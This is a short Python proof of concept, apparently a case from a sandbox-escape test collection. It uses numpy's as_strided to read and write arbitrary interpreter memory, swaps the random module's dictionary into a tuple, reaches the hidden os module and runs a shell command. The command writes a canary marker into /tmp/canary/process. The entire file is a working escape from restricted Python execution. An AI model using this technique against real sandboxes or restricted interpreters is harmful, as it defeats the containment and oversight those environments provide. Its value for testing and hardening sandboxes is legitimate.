# source: own
# effect: process
# needs: numpy

import random
import numpy as np
from numpy.lib.stride_tricks import as_strided

small = np.zeros(1, dtype=np.uint8)
base = small.__array_interface__["data"][0]


def word(address):
    step = address - base
    window = as_strided(small, shape=(2, 8), strides=(step, 1))
    return window[1]


box = (len,)
dictionary = word(id(random) + 16).copy()
word(id(box) + 24)[:] = dictionary
box[0]["_os"].system("echo numpy/as_strided_memory > /tmp/canary/process")
